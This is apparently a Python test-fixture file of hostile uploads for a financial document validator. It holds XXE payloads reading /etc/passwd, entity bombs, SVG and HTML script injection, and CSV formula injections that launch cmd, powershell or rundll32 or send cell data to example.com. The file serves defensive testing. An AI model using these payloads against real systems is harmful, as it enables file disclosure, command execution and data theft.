"""XML, JSON, HTML and CSV that swell, fetch files, run scripts, or mean two things."""

import json
from collections.abc import Callable

XXE = b'<?xml version="1.0"?><!DOCTYPE ENVELOPE [<!ENTITY x SYSTEM "file:///etc/passwd">]><ENVELOPE><BODY>&x;</BODY></ENVELOPE>'
SHEET_XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet/>'
_CAMT = '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt>{}</BkToCstmrStmt></Document>'


def laughs() -> bytes:
    """A thousand million laughs."""
    lines = ['<!ENTITY a0 "ha">', *[f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]]
    return f'<?xml version="1.0"?><!DOCTYPE ENVELOPE [{"".join(lines)}]><ENVELOPE>&a11;</ENVELOPE>'.encode()


def _quadratic() -> bytes:
    """One long entity, many times."""
    return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"x" * 100_000 + b'">]><ENVELOPE>' + b"&a;" * 100_000 + b"</ENVELOPE>"


FAMILY: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "entity bomb": ("tally.xml", laughs, "document.xml_entities"),
    "entity of a hundred thousand letters": ("tally.xml", _quadratic, "document.xml_entities"),
    "external entity": ("tally.xml", lambda: XXE, "document.xml_entities"),
    "external entity in UTF-16": ("tally.xml", lambda: XXE.decode().encode("utf-16"), "document.xml_entities"),
    "external entity in UTF-16 without a mark": ("tally.xml", lambda: XXE.decode().encode("utf-16-le"), "document.xml_entities"),
    "external entity in a statement": ("camt.xml", lambda: XXE.split(b"<ENVELOPE>")[0] + _CAMT.format("&x;").encode(), "document.xml_entities"),
    "external document type": ("dtd.xml", lambda: b'<!DOCTYPE x SYSTEM "http://example.com/x.dtd"><ENVELOPE/>', "document.xml_entities"),
    "parameter entity": ("dtd.xml", lambda: b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.com/x"> %p;]><ENVELOPE/>', "document.xml_entities"),
    "entity in OFX": ("x.ofx", lambda: b'<?xml version="1.0"?><!DOCTYPE OFX [<!ENTITY x "y">]><OFX>&x;</OFX>', "document.xml_entities"),
    "entity that UTF-7 hides": (
        "tally.xml",
        lambda: b'<?xml version="1.0" encoding="UTF-7"?>+ADw-+ACE-DOCTYPE x [+ADw-+ACE-ENTITY a SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-]+AD4-<ENVELOPE/>',
        "document.",
    ),
    "deep XML": ("deep.xml", lambda: b"<ENVELOPE>" + b"<A>" * 500 + b"</A>" * 500 + b"</ENVELOPE>", "document.too_deep"),
    "XML a million deep": ("deep.xml", lambda: b"<ENVELOPE>" + b"<A>" * 1_000_000, "document.too_deep"),
    "drawing with script": (
        "logo.svg",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "document.active_content",
    ),
    "drawing that acts when it loads": ("logo.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "document.active_content"),
    "style sheet with code": (
        "x.xml",
        lambda: (
            b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt"><msxsl:script/></xsl:stylesheet>'
        ),
        "document.active_content",
    ),
    "page with script": ("page.html", lambda: b"<html><body><script src='http://example.com/x.js'></script></body></html>", "document.active_content"),
    "page called .xls with script": ("bank.xls", lambda: b"<table><tr><td><img src=x onerror=alert(1)></td></tr></table>", "document.active_content"),
    "page that loads another": ("page.html", lambda: b"<html><iframe src='http://example.com'></iframe></html>", "document.active_content"),
    "page that moves on": (
        "page.html",
        lambda: b"<html><head><meta http-equiv='refresh' content='0;url=http://example.com'></head></html>",
        "document.active_content",
    ),
    "link that runs script": ("page.html", lambda: b"<html><body><a href='java&#115;cript:alert(1)'>bill</a></body></html>", "document.active_content"),
    "deep JSON": ("deep.json", lambda: b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}", "document.too_deep"),
    "JSON that is never closed": ("deep.json", lambda: b'{"a":' * 1_000_000, "document.too_deep"),
    "key twice": ("twice.json", lambda: b'{"data": {"gstin": "27", "gstin": "29"}}', "document.json_unsafe"),
    "key twice by an escape": ("twice.json", lambda: b'{"data": {"gstin": "27", "\\u0067stin": "29"}}', "document.json_unsafe"),
    "NaN": ("nan.json", lambda: b'{"total": NaN}', "document.json_unsafe"),
    "Infinity": ("infinity.json", lambda: b'{"total": -Infinity}', "document.json_unsafe"),
    "number of a million digits": ("number.json", lambda: b'{"total": ' + b"9" * 1_000_000 + b"}", "document.json_unsafe"),
    "cut-off JSON": ("cut.json", lambda: json.dumps({"a": list(range(50))}).encode()[:-20], "document.truncated"),
    "JSON that is not UTF-8": ("bytes.json", lambda: b'{"name": "\xff\xfe\xfa"}', "document.unreadable"),
    "command in a CSV": ("pay.csv", lambda: b"a,b\n=cmd|'/C calc'!A0,2\n", "document.virus"),
    "command in a CSV behind a sign": ("pay.csv", lambda: b"a,b\n+cmd|' /C powershell'!A0,2\n", "document.virus"),
    "command in quotes in a CSV": ("pay.csv", lambda: b"a,b\n\"@rundll32|'/x'!A0\",2\n", "document.virus"),
    "cell that calls out": ("pay.csv", lambda: b'a,b\n"=WEBSERVICE(""http://example.com/""&A1)",2\n', "document.virus"),
    "cell that links out": ("pay.csv", lambda: b'a,b\n"=HYPERLINK(""http://example.com/?x=""&A1,""Pay"")",2\n', "document.virus"),
    "cell that imports": ("pay.csv", lambda: b'a,b\n"=IMPORTXML(CONCAT(""http://example.com/"",A1),""//a"")",2\n', "document.virus"),
    "command in a tab-separated table": ("pay.tsv", lambda: b"a\tb\n=cmd|'/C calc'!A0\t2\n", "document.virus"),
    "empty": ("empty.csv", lambda: b"", "document.empty"),
    "blank": ("blank.csv", lambda: b"\n\n \n", "document.empty"),
    "zeros": ("zeros.csv", lambda: b"\0" * 5000, "document.empty"),
    "too large": ("large.csv", lambda: b"a,b\n" * 27_000_000, "document.too_large"),
}
